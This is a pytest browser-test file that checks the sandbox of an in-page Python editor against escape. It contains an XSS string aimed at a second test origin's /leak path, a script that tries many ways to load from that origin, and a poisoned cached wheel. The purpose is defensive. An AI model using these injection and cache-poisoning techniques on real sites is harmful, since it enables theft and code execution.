"""What lines in the live site can reach, also someone else's: nothing but the picture or table they give."""

from __future__ import annotations

import base64
import contextlib
import hashlib
import io
import json
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import live_attacks
import pytest
from engines import Engine, Session, engine
from recording_servers import OtherOrigin, Server, other_origin, serving

from reviewhelpers._core import csv_injection
from reviewhelpers.validation import user_data

pytestmark = pytest.mark.slow

__all__ = ["engine"]

PAGE = "chapters/co2rr/compare.html"
FIGURE, TABLE = "fig-co2rr-efficiency", "tab-co2rr-highlights"
PATIENCE = 300
"""Seconds within which Python starts, also on a machine with other work."""
MACHINE = "http://127.0.0.1"
"""What sessions may reach: also the second origin, so that a request to it is not cut off by the driver."""
ONE = 'import pandas as pd\npd.DataFrame({"a": [1]})'


@pytest.fixture(scope="module")
def server(live: Path) -> Iterator[Server]:
    with serving(live) as started:
        yield started


@pytest.fixture(scope="module")
def there() -> Iterator[OtherOrigin]:
    with other_origin() as listening:
        yield listening


ASKING = pytest.mark.parametrize("engine", ["firefox"], indirect=True)
"""What the page asks a reader before lines run is the same script in all engines; its walls are tried in each."""


class Editor:
    """The editor of a figure or table on a page, in any engine."""

    def __init__(self, shown: Session, id: str = FIGURE):
        self.shown = shown
        self.place = f".live[data-id={id}]"

    def ask(self, function: str, *arguments: Any) -> Any:
        """Call a function with the place of the editor."""
        return self.shown.evaluate(
            f"(place, ...all) => ({function})(document.querySelector(place), ...all)", self.place, *arguments
        )

    def press(self, name: str) -> None:
        """Press one of its buttons."""
        self.ask(
            "(place, name) =>"
            " [...place.querySelectorAll('button')].find(e => e.textContent === name).click()",
            name,
        )

    def tick(self, what: str) -> None:
        """Tick one of the boxes to agree to lines of someone else."""
        self.shown.click(f"{self.place} input[id$={what}]")

    def open(self) -> None:
        """Open it."""
        if self.ask("place => place.querySelector('.live-panel').hidden"):
            self.ask("place => place.querySelector('.live-open').click()")

    def write(self, lines: str) -> None:
        """Put lines into the field."""
        self.ask("(place, lines) => { place.querySelector('textarea').value = lines; }", lines)

    def lines(self) -> str:
        """The lines that stand in the field."""
        return str(self.ask("place => place.querySelector('textarea').value"))

    def text(self, part: str) -> str:
        """The text of one of its parts."""
        return str(self.ask("(place, part) => place.querySelector(part).textContent", part))

    def wait_for_text(self, part: str, text: str) -> None:
        """Wait until one of its parts says something."""
        self.shown.wait_for(
            "(part, text) => document.querySelector(part).textContent.includes(text)",
            f"{self.place} {part}",
            text,
            timeout=60,
        )

    def may_run(self) -> bool:
        """Whether the button Run can be pressed."""
        return bool(
            self.ask(
                "place => [...place.querySelectorAll('button')]"
                ".some(e => e.textContent === 'Run' && !e.disabled)"
            )
        )

    def settled(self, within: float = PATIENCE) -> str:
        """What it says once the lines have run: the status, or the fault."""
        self.shown.wait_for(
            "place => document.querySelector(`${place} .live-error`).textContent"
            " || /^Done/.test(document.querySelector(`${place} .live-status`).textContent)",
            self.place,
            timeout=within,
        )
        return self.text(".live-error") or self.text(".live-status")

    def run(self, lines: str | None = None, within: float = PATIENCE) -> str:
        """Run lines, or those that stand there, and say how that ended."""
        if lines is not None:
            self.write(lines)
        # What the last run left must not be taken for the answer.
        self.ask("place => { place.querySelector('.live-status').textContent = ''; }")
        self.press("Run")
        return self.settled(within)

    def choose(self, text: str, name: str = "my.csv") -> None:
        """Choose a file of one's own."""
        self.ask("place => { place.querySelector('.live-status').textContent = ''; }")
        self.ask(
            "(place, text, name) => {"
            " const input = place.querySelector('input[type=file]');"
            " const chosen = new DataTransfer();"
            " chosen.items.add(new File([text], name, {type: 'text/csv'}));"
            " input.files = chosen.files;"
            " input.dispatchEvent(new Event('change', {bubbles: true})); }",
            text,
            name,
        )

    def svg(self, mode: str = "light") -> str:
        """The picture of the result for pages of a mode."""
        address = self.ask(
            "(place, mode) => place.querySelector(`.live-result img.in-${mode}`).getAttribute('src')", mode
        )
        return unquote(str(address).removeprefix("data:image/svg+xml,"))


@contextlib.contextmanager
def visit(engine: Engine, server: Server, fragment: str = "", width: int = 1280) -> Iterator[Session]:
    """A reader who comes for the first time, and who could reach other hosts."""
    with engine.open(MACHINE, width=width) as shown:
        shown.goto(f"{server.base}/{PAGE}{fragment}")
        yield shown


@pytest.fixture(scope="module")
def shown(engine: Engine, server: Server) -> Iterator[Session]:
    """A page whose Python runs: the tests below that share it load it once."""
    with visit(engine, server) as found:
        editor = Editor(found)
        editor.open()
        assert editor.run(ONE).startswith("Done")
        yield found


FRAMED = """async (address, sandbox) => {
  const frame = document.createElement("iframe");
  if (sandbox) frame.setAttribute("sandbox", "allow-scripts");
  frame.src = address;
  const loaded = new Promise(resolve => frame.addEventListener("load", resolve));
  document.body.append(frame);
  await loaded;
  const { port1, port2 } = new MessageChannel();
  const said = new Promise(resolve => {
    port1.onmessage = ({ data }) => resolve(data);
    setTimeout(() => resolve("nothing"), 4000);
  });
  const script = "self.onmessage = ({ ports: [port] }) => port.postMessage(self.origin)";
  const bytes = new TextEncoder().encode(script).buffer;
  frame.contentWindow.postMessage({ files: { "worker.js": bytes } }, "*", [port2]);
  const heard = await said;
  frame.remove();
  return heard;
}"""
"""Hands a script to the frame of Python, as any page could that embeds it; gives the origin that it got."""

LOADS = """there => {
  const made = (name, given) => document.body.append(Object.assign(document.createElement(name), given));
  made("img", { src: `${there}/img` });
  made("img", { src: "data:image/svg+xml," + encodeURIComponent(
    `<svg xmlns="http://www.w3.org/2000/svg"><image href="${there}/svg" width="9" height="9"/></svg>`) });
  made("script", { src: `${there}/script` });
  made("iframe", { src: `${there}/frame` });
  made("object", { data: `${there}/object` });
  made("embed", { src: `${there}/embed` });
  made("audio", { src: `${there}/audio` });
  made("link", { rel: "stylesheet", href: `${there}/style` });
  made("div", { textContent: "x" });
  document.body.lastChild.style.background = `url(${there}/background)`;
  const form = Object.assign(document.createElement("form"), { action: `${there}/form`, method: "post" });
  document.body.append(form);
  for (const way of [() => fetch(`${there}/fetch`), () => new FontFace("x", `url(${there}/font)`).load(),
      () => import(`${there}/import`)]) way().catch(() => {});
  for (const way of [() => form.submit(), () => navigator.sendBeacon(`${there}/beacon`, "rows"),
      () => new WebSocket(`${there}/socket`.replace("http", "ws")),
      () => new EventSource(`${there}/events`), () => new Worker(`${there}/worker`)]) {
    try { way(); } catch {}
  }
}"""
"""What a page would load from another host if it could."""


def link(lines: str, id: str = FIGURE) -> str:
    """What a link to an edit adds to the address of its page."""
    return f"#live={id}&lines={base64.urlsafe_b64encode(lines.encode()).decode().rstrip('=')}"


def is_apart(shown: Session) -> bool:
    """Whether Python was started."""
    return bool(shown.evaluate("() => document.querySelectorAll('iframe').length"))


def test_the_figure_is_the_published_one(shown: Session, live: Path) -> None:
    editor = Editor(shown)
    editor.press("Reset")
    assert editor.run().startswith("Done")
    for mode, suffix in (("light", "svg"), ("dark", "dark.svg")):
        assert editor.svg(mode) == (live / "figures" / f"{FIGURE}.{suffix}").read_text(encoding="utf-8")
    given = shown.evaluate("(id, lines) => live.python.run('reader', id, lines)", FIGURE, editor.lines())
    assert given["outputs"][0]["csv"] == (live / "figures" / f"{FIGURE}.csv").read_text(encoding="utf-8")


@pytest.mark.parametrize("host", ["another host", "the host of the site"])
def test_no_way_leads_out_of_python(shown: Session, server: Server, there: OtherOrigin, host: str) -> None:
    shown.faults()
    there.heard.clear()
    server.requests.clear()
    target = there.address if host == "another host" else f"{server.base}"
    editor = Editor(shown)

    def assert_nothing_left_it() -> None:
        time.sleep(4)
        # Where the driver stands between, it notes what it could not hand on.
        beyond = [fault for fault in shown.faults() if "another host" in fault]
        assert (there.heard, server.requests, beyond) == ([], [], [])

    for name, body in live_attacks.WAYS.items():
        try:
            assert editor.run(live_attacks.lines(name, body, target), within=60).startswith("Done"), name
        except TimeoutError:
            # Firefox waits now and then for ever for a worker whose script it may not load.
            print(f"{name}: the lines never ended")
            assert_nothing_left_it()
            # The page itself asks for the frame of Python when it starts it again.
            shown.evaluate("() => live.python.end()")
            assert editor.run(ONE).startswith("Done")
            server.requests.clear()
    assert_nothing_left_it()


def test_lines_leave_nothing_in_what_pages_of_the_site_share(shown: Session) -> None:
    looked = """async () => {
      const kept = await caches.open("defects-at-work-live");
      const sums = [];
      for (const key of await kept.keys()) {
        const bytes = await (await kept.match(key)).arrayBuffer();
        const sum = new Uint8Array(await crypto.subtle.digest("SHA-256", bytes));
        sums.push(key.url + " " + sum.join(" "));
      }
      const files = [];
      try {
        for await (const name of (await navigator.storage.getDirectory()).keys()) files.push(name);
      } catch {}
      return {
        sums: sums.sort(),
        caches: await caches.keys(),
        bases: (await indexedDB.databases()).map(each => each.name),
        files,
        cookies: document.cookie,
        heard: window.heardByTest,
      };
    }"""
    shown.evaluate(
        "() => { window.heardByTest = [];"
        " new BroadcastChannel('owned').onmessage = e => window.heardByTest.push(e.data); }"
    )
    before = shown.evaluate(looked)
    assert len(before["sums"]) > 20
    assert Editor(shown).run(live_attacks.STORES).startswith("Done")
    time.sleep(3)
    assert shown.evaluate(looked) == before


@pytest.mark.parametrize("kind", live_attacks.PICTURES)
def test_a_picture_that_loads_runs_or_leads_away_is_not_shown(
    shown: Session, server: Server, there: OtherOrigin, kind: str
) -> None:
    there.heard.clear()
    server.requests.clear()
    editor = Editor(shown)
    change = live_attacks.PICTURES[kind].replace("{there}", f"{there.address}/leak")
    said = editor.run(live_attacks.giving(change))
    assert said.startswith("The result is not shown, for it holds "), said
    assert (there.heard, server.requests) == ([], [])


def test_texts_of_lines_stay_texts(shown: Session, there: OtherOrigin) -> None:
    there.heard.clear()
    bad = f"<img src='{there.address}/leak' onerror='document.title=1'><script>document.title=1</script>"
    editor = Editor(shown)
    assert editor.run(f"import pandas as pd\npd.DataFrame({{{bad!r}: [{bad!r}]}})").startswith("Done")
    assert editor.text(".live-result thead th") == editor.text(".live-result tbody td") == bad
    assert bad in editor.run(f"raise ValueError({bad!r})")
    told = f"{live_attacks.giving('published')[:-5]}plot.alt = {bad!r}\nplot"
    assert editor.run(told).startswith("Done")
    assert editor.ask("place => place.querySelector('.live-result img').alt") == bad
    assert shown.evaluate("() => document.title") != "1"
    assert there.heard == []


@pytest.mark.parametrize("cell", live_attacks.CELLS)
def test_values_that_a_spreadsheet_would_run_are_not_offered(shown: Session, cell: str) -> None:
    assert csv_injection.is_formula(cell)
    quoted = '"' + cell.replace('"', '""') + '"'
    said = Editor(shown).run(live_attacks.table(f"a,b\n1,{quoted}\n"))
    assert said.startswith("The result is not shown, for it holds a cell that a spreadsheet would run"), said


def test_values_that_a_spreadsheet_shows_are_offered(shown: Session) -> None:
    texts = ["=", "-89 %", "+2 ≥ x", "-0.43", "+", "a=b", "'=1"]
    assert not any(map(csv_injection.is_formula, texts))
    assert Editor(shown).run(live_attacks.table("\n".join(texts))).startswith("Done")
    assert Editor(shown).run(live_attacks.RESTORED).startswith("Done")


def test_a_picture_of_pixels_and_shades_is_shown(shown: Session) -> None:
    lines = """
from reviewhelpers import figures

plot = figures.make("fig-co2rr-efficiency")
axes = plot.figure.axes[0]
axes.imshow([[1, 2], [3, 4]], extent=(0, 50, 0, 5), aspect="auto")
axes.fill_between([0, 50], 1, hatch="/", alpha=0.5)
axes.text(1, 1, "$E^{2}$ @ \\ (url)")
plot
"""
    editor = Editor(shown)
    assert editor.run(live_attacks.RESTORED).startswith("Done")
    assert editor.run(lines).startswith("Done")


def test_what_is_shown_could_reach_no_host_either(engine: Engine, server: Server, there: OtherOrigin) -> None:
    with visit(engine, server) as shown:
        there.heard.clear()
        shown.faults()
        shown.evaluate(LOADS, f"{there.address}/leak")
        time.sleep(3)
        beyond = [fault for fault in shown.faults() if "another host" in fault]
        assert (there.heard, beyond) == ([], [])
        assert shown.url == f"{server.base}/{PAGE}"


def test_the_frame_runs_nothing_as_a_page_of_the_site(engine: Engine, server: Server) -> None:
    with visit(engine, server) as shown:
        address = f"{server.base}/live/frame.html"
        assert shown.evaluate(FRAMED, address, False) == "nothing"
        assert shown.evaluate(FRAMED, address, True) == "null"


def poisoned(live: Path) -> tuple[str, bytes]:
    """The name of the wheel of this package, and one whose every result is `owned`."""
    wheel = next((live / "live").glob("reviewhelpers-*.whl"))
    made = io.BytesIO()
    with zipfile.ZipFile(wheel) as whole, zipfile.ZipFile(made, "w") as out:
        for name in whole.namelist():
            added = live_attacks.OWNING.encode() if name.endswith("live/execution.py") else b""
            out.writestr(name, whole.read(name) + added)
    return wheel.name, made.getvalue()


def test_neither_lines_that_ran_once_nor_kept_bytes_own_later_visits(
    engine: Engine, server: Server, live: Path
) -> None:
    """The lines try to change what is kept; then it is changed, as if they or others could."""
    name, bytes_ = poisoned(live)
    published = (live / "figures" / f"{FIGURE}.svg").read_text(encoding="utf-8")
    listed = json.loads((live / "live" / "files.json").read_text(encoding="utf-8"))
    listed[name] = {"size": len(bytes_), "sha256": hashlib.sha256(bytes_).hexdigest()}
    with visit(engine, server) as shown:
        editor = Editor(shown)
        editor.open()
        assert editor.run(live_attacks.OWNED).startswith("Done")
        time.sleep(5)
        changed = shown.evaluate(
            """async (name, encoded, listed, base) => {
              const bytes = Uint8Array.from(atob(encoded), each => each.charCodeAt(0));
              const kept = await caches.open("defects-at-work-live");
              const changed = [];
              await kept.put(`${base}/live/files.json`, new Response(listed));
              for (const key of await kept.keys()) {
                const isList = key.url.includes("/files.json");
                const body = key.url.includes(`/${name}`) ? bytes : isList ? listed : null;
                if (body) await kept.put(key, new Response(body));
                if (body) changed.push(key.url);
              }
              return changed;
            }""",
            name,
            base64.b64encode(bytes_).decode(),
            json.dumps(listed),
            server.base,
        )
        assert len(changed) >= 2
        shown.goto(f"{server.base}/chapters/index.html")
        server.requests.clear()
        shown.goto(f"{server.base}/{PAGE}")
        editor.open()
        assert editor.run().startswith("Done")
        assert editor.svg() == published
        # What was kept and is as published was not fetched again.
        assert {name for name in server.loaded() if name.endswith((".whl", ".wasm", ".zip"))} == {name}


LONG = f"x = '{'long ' * 200}'\n" + "\n" * 60 + ONE
"""Lines that no field of the usual size shows whole."""


def tries_to_run(editor: Editor) -> None:
    """Press Run, and the keys that stand for it."""
    editor.press("Run")
    editor.ask(
        "place => place.querySelector('textarea').dispatchEvent("
        "new KeyboardEvent('keydown', {key: 'Enter', ctrlKey: true, bubbles: true}))"
    )
    time.sleep(0.5)


@pytest.mark.parametrize("width", [1280, 390])
def test_lines_of_a_link_stand_whole_and_run_once_they_were_seen(
    engine: Engine, server: Server, width: int
) -> None:
    with visit(engine, server, link(LONG), width=width) as shown:
        editor = Editor(shown)
        assert editor.lines() == LONG
        hidden = editor.ask(
            "place => { const e = place.querySelector('textarea');"
            " return [e.scrollHeight - e.clientHeight, e.scrollWidth - e.clientWidth]; }"
        )
        assert max(hidden) <= 1
        assert shown.evaluate("() => document.documentElement.scrollWidth - innerWidth") <= 0
        # Who would tick the box has the lines before it.
        assert editor.ask(
            "place => place.querySelector('textarea').getBoundingClientRect().bottom"
            " <= place.querySelector('input[id$=seen]').getBoundingClientRect().top"
        )
        tries_to_run(editor)
        assert not is_apart(shown)
        editor.tick("seen")
        assert editor.may_run()
        if width > 1000:
            assert editor.run().startswith("Done")


@ASKING
def test_lines_of_a_link_get_own_rows_only_after_another_word(engine: Engine, server: Server) -> None:
    with visit(engine, server) as shown:
        editor = Editor(shown)
        published = editor.lines()
        shown.goto(f"{server.base}/chapters/index.html")
        shown.goto(f"{server.base}/{PAGE}{link(published)}")
        editor.choose(user_data.TEMPLATE)
        editor.wait_for_text(".live-ask", "my.csv")
        tries_to_run(editor)
        assert not is_apart(shown)
        editor.tick("seen")
        tries_to_run(editor)
        assert not is_apart(shown)
        editor.tick("lent")
        assert editor.run().endswith("Rows of yours that this figure plots: 1.")
        # Other rows need another word.
        editor.choose(user_data.TEMPLATE.replace("My catalyst", "Mine"), "other.csv")
        editor.wait_for_text(".live-ask", "other.csv")
        assert not editor.may_run()
        editor.press("Without your data")
        assert "Rows of yours" not in editor.settled()


@ASKING
def test_a_link_that_comes_while_own_rows_are_there_waits_for_both_words(
    engine: Engine, server: Server
) -> None:
    with visit(engine, server) as shown:
        editor = Editor(shown)
        editor.open()
        published = editor.lines()
        editor.choose(user_data.TEMPLATE)
        assert editor.settled().endswith("Rows of yours that this figure plots: 1.")
        for lines in (f"{published}  # one", f"{published}  # two"):
            shown.evaluate("fragment => { location.hash = fragment; }", link(lines))
            shown.wait_for(
                "(place, lines) => document.querySelector(`${place} textarea`).value === lines",
                editor.place,
                lines,
            )
            assert not editor.may_run()
            editor.tick("seen")
            assert not editor.may_run()
            editor.tick("lent")
            assert editor.may_run()


@ASKING
def test_what_lines_of_a_link_leave_in_python_ends_with_them(engine: Engine, server: Server) -> None:
    with visit(engine, server, link(live_attacks.TRAP)) as shown:
        editor = Editor(shown)
        editor.tick("seen")
        assert editor.run().startswith("Done")
        editor.press("Reset")
        editor.choose(user_data.TEMPLATE)
        assert editor.settled().endswith("Rows of yours that this figure plots: 1.")


UNSEEN = ("\u202e", "\u200b", "\u00ad", "\u2066", "\u3164", "\ufe0f", "\U000e0041", "\r", "\0")


def test_a_link_with_what_cannot_be_seen_or_read_is_not_opened(engine: Engine, server: Server) -> None:
    with visit(engine, server) as shown:
        editor = Editor(shown)
        published = editor.lines()
        refused = {link(f"x = 1\ny = '{sign}'\n{ONE}"): f"line 2 holds U+{ord(sign):04X}" for sign in UNSEEN}
        refused[link(ONE)[:-1] + "!"] = refused[link(ONE)[:-2]] = "The link is cut"
        for fragment, said in refused.items():
            shown.evaluate("fragment => { location.hash = fragment; }", fragment)
            editor.wait_for_text(".live-error", said)
            assert editor.lines() == published
        assert not is_apart(shown)
